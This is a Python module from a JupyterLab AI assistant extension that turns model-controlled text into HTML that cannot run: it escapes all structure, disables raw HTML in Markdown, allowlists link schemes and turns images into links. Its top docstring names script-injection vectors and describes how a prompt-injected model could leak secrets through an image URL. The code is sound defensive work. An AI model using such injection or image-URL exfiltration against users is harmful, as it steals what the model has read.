"""Model-controlled text as HTML that cannot run: our structure escaped, the model's prose parsed.

JupyterLab renders a just-run cell's HTML and Markdown outputs as trusted: raw HTML in them runs
(`<img onerror>`, `<script>`, `<iframe srcdoc>`). Everything a model can steer reaches the user
through these outputs (its answer, tool arguments and results, error text, file names, diffs), so
every Python surface builds its HTML here:

- our own structure (tool lines, diffs, tables) is HTML whose every piece of text is escaped;
- the model's prose goes through markdown-it with raw HTML off, so `<tag>` stays text;
- links are made only to `http`, `https`, `mailto`, relative and `#anchor` targets (`links.py`,
  the one rule the Markdown export follows too);
- images become links: an image loads by itself, and `![](https://host/?q=<secret>)` is how an
  injected model would leak what it read.

markdown-it loads on first render, not when the extension loads.
"""

from __future__ import annotations

import html
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from functools import lru_cache
from typing import Any

from ..links import SCHEME as _SCHEME
from ..links import safe_url as safe_url

_LINK_ATTRS = 'target="_blank" rel="noopener noreferrer nofollow"'
DIFF_STYLES = {
    "add": "background:rgba(46,160,67,0.15)",
    "del": "background:rgba(248,81,73,0.15)",
    "hunk": "opacity:0.7",
    "meta": "opacity:0.7;font-weight:bold",
}
"""Colours that read on light and dark JupyterLab themes alike."""
CODE_STYLE = (
    "background:rgba(127,127,127,0.12);border-radius:4px;padding:6px 8px;"
    "overflow-x:auto;white-space:pre"
)
"""A code block of an answer: a background and a horizontal scroll, with or without copilot_nb's
front end (which adds Copy, Insert and Run to every `pre.cnb-code`, `frontend/src/codeBlocks.ts`)."""


@dataclass(frozen=True)
class Rendered:
    """Safe HTML and the same content as plain text; a notebook shows the HTML, a terminal the text."""

    html: str
    text: str

    def _repr_mimebundle_(self, include: Any = None, exclude: Any = None) -> dict[str, str]:
        return {"text/html": self.html, "text/plain": self.text}


def escape(text: object) -> str:
    """Text as HTML text or attribute value: `& < > " '` escaped, nothing else changed."""
    return html.escape(str(text), quote=True)


def markdown_html(text: str) -> str:
    """The model's Markdown as HTML: raw HTML stays text, only safe links, images as links."""
    return _render(text) if text.strip() else ""


def inline_html(text: str) -> str:
    """One line of Markdown (emphasis, code, links) without a paragraph around it."""
    return _parser().renderInline(text) if text.strip() else ""


@lru_cache(maxsize=64)
def _render(text: str) -> str:
    """Cached: a streamed transcript renders its finished blocks again at every update."""
    return str(_parser().render(text))


def diff_html(diff: str) -> str:
    """A unified diff as a `<pre>`, each line escaped and tinted by kind (added, removed, hunk)."""
    lines = []
    for line in diff.rstrip("\n").split("\n"):
        kind = _diff_kind(line)
        body = escape(line) or " "
        lines.append(f'<span style="{DIFF_STYLES[kind]}">{body}</span>' if kind else body)
    return "<pre><code>" + "\n".join(lines) + "</code></pre>"


def _diff_kind(line: str) -> str:
    if line.startswith(("+++ ", "--- ")):
        return "meta"
    if line.startswith("@@"):
        return "hunk"
    return {"+": "add", "-": "del"}.get(line[:1], "")


def details_html(summary: str, body_html: str, *, open: bool = False) -> str:
    """A collapsed section: the summary is text (escaped here), the body HTML built by this module."""
    flag = " open" if open else ""
    return f"<details{flag}><summary>{escape(summary)}</summary>{body_html}</details>"


def table_html(header: Sequence[str], rows: Iterable[Sequence[object]], *, align: str = "") -> str:
    """A table of text cells, every cell escaped; `align` has one letter per column (l, r, c).
    Every cell says its alignment: JupyterLab's output styles right-align table cells."""
    sides = {"l": "left", "r": "right", "c": "center"}
    styles = [f' style="text-align:{sides[a]}"' for a in align.ljust(len(header), "l")]
    head = "".join(f"<th{s}>{escape(h)}</th>" for h, s in zip(header, styles, strict=False))
    body = "".join(
        "<tr>"
        + "".join(f"<td{s}>{escape(c)}</td>" for c, s in zip(row, styles, strict=False))
        + "</tr>"
        for row in rows
    )
    return f"<table><thead><tr>{head}</tr></thead><tbody>{body}</tbody></table>"


def link_html(url: str, text: str) -> str:
    """A link that opens in a new tab, or the text alone when the target is not safe."""
    if not safe_url(url):
        return escape(text)
    return f'<a href="{escape(url)}" {_LINK_ATTRS}>{escape(text)}</a>'


# --- the Markdown parser -------------------------------------------------------------------------


@lru_cache(maxsize=1)
def _parser() -> Any:
    """markdown-it (CommonMark + tables + strikethrough), raw HTML off, our link rules; built once."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": False, "linkify": False, "typographer": False})
    md.enable(["table", "strikethrough"])
    setattr(md, "validateLink", safe_url)  # noqa: B010 (markdown-it's documented override)
    md.add_render_rule("link_open", _link_open)
    md.add_render_rule("image", _image)
    md.add_render_rule("fence", _code_block)
    md.add_render_rule("code_block", _code_block)
    md.add_render_rule("th_open", _table_cell)
    md.add_render_rule("td_open", _table_cell)
    return md


def _table_cell(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    """A table cell that says its alignment: left where the Markdown says none, as the panel
    shows it (JupyterLab's output styles right-align table cells)."""
    token = tokens[idx]
    if not token.attrGet("style"):
        token.attrSet("style", "text-align:left")
    return str(self.renderToken(tokens, idx, options, env))


def _code_block(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    """A fenced or indented block as `pre.cnb-code`, its language as the code's class."""
    token = tokens[idx]
    words = str(token.info or "").split()
    lang = f' class="language-{escape(words[0])}"' if words else ""
    code = escape(token.content)
    return f'<pre class="cnb-code" style="{CODE_STYLE}"><code{lang}>{code}</code></pre>\n'


def _link_open(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    token = tokens[idx]
    href = str(token.attrGet("href") or "")
    if not safe_url(href):  # markdown-it checked it already; this is the last word
        token.attrSet("href", "#")
    elif _SCHEME.match(href):  # another site: a new tab; a relative link stays in JupyterLab
        token.attrSet("target", "_blank")
        token.attrSet("rel", "noopener noreferrer nofollow")
    return str(self.renderToken(tokens, idx, options, env))


def _image(self: Any, tokens: Any, idx: int, options: Any, env: Any) -> str:
    """An image as a link to it, so nothing loads until the user clicks."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env)
    label = f"🖼 {alt or 'image'}"
    if not safe_url(src):
        return escape(label)
    return f'<a href="{escape(src)}" title="{escape(src)}" {_LINK_ATTRS}>{escape(label)}</a>'
